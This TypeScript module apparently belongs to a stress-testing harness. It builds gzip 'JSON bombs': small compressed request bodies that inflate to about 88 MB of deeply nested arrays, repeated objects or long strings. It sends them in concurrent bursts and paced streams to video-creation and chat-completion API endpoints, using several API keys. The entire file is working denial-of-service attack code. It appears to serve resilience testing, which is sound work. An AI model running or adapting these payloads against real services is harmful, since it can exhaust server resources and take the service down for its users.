/** Gzip bodies of about 90 KB that inflate to the largest JSON the operation accepts: arrays, deep nesting, many texts. */
import { gzipSync } from 'node:zlib'

import { burst, head, paced } from './client.ts'
import type { Attack } from './target.ts'

const bodyBytes = 88 * 1_048_576 - 1_024
const createsPerMinute = 60
const chatsPerMinute = 120

const inflatesTo = (start: string, repeated: string, end: string): Buffer => {
  const count = Math.floor((bodyBytes - start.length - end.length) / repeated.length)
  const middle = Buffer.alloc(count * repeated.length, repeated)
  return gzipSync(Buffer.concat([Buffer.from(start), middle, Buffer.from(end)]))
}

const nested = (): Buffer => {
  const depth = Math.floor(bodyBytes / 2) - 64
  const middle = [Buffer.alloc(depth, '['), Buffer.alloc(depth, ']')]
  return gzipSync(Buffer.concat([Buffer.from('{"model":"vidB-2","prompt":'), ...middle, Buffer.from('}')]))
}

const request = (path: string, key: string, body: Buffer): Buffer[] => {
  const headers = { 'content-type': 'application/json', 'content-encoding': 'gzip' }
  return [head('POST', path, key, { ...headers, 'content-length': body.length }), body]
}

export const jsonBomb: Attack = async ({ keys }) => {
  const arrays = inflatesTo('{"model":"vidB-2","prompt":[[]', ',[]', ']}')
  const members = inflatesTo('{"model":"vidB-2","prompt":[0', ',{"a":0}', ']}')
  const shapes = [arrays, nested(), members]
  const text = 'a'.repeat(65 * 1024)
  const texts = inflatesTo('{"model":"vidB-2","messages":["a"', `,"${text}"`, ']}')
  const create = (key: string, index: number) => request('/v1/videos', key, shapes[index % 3] as Buffer)
  const chat = (key: string, index: number) =>
    request('/v1/chat/completions', key, [texts, ...shapes][index % 4] as Buffer)
  return async (client, signal) => {
    await Promise.all([
      burst(signal, { count: createsPerMinute, atOnce: 20 }, (index) =>
        client.exchange(create(keys.poor, index)),
      ),
      burst(signal, { count: chatsPerMinute, atOnce: 20 }, (index) =>
        client.exchange(chat(keys.poor, index)),
      ),
      paced(signal, { perSecond: createsPerMinute / 60 }, (index) =>
        client.exchange(create(keys.funded, index), index % 2 === 0 ? 'answer' : 'disconnect'),
      ),
      paced(signal, { perSecond: chatsPerMinute / 60 }, (index) => client.exchange(chat(keys.funded, index))),
    ])
  }
}
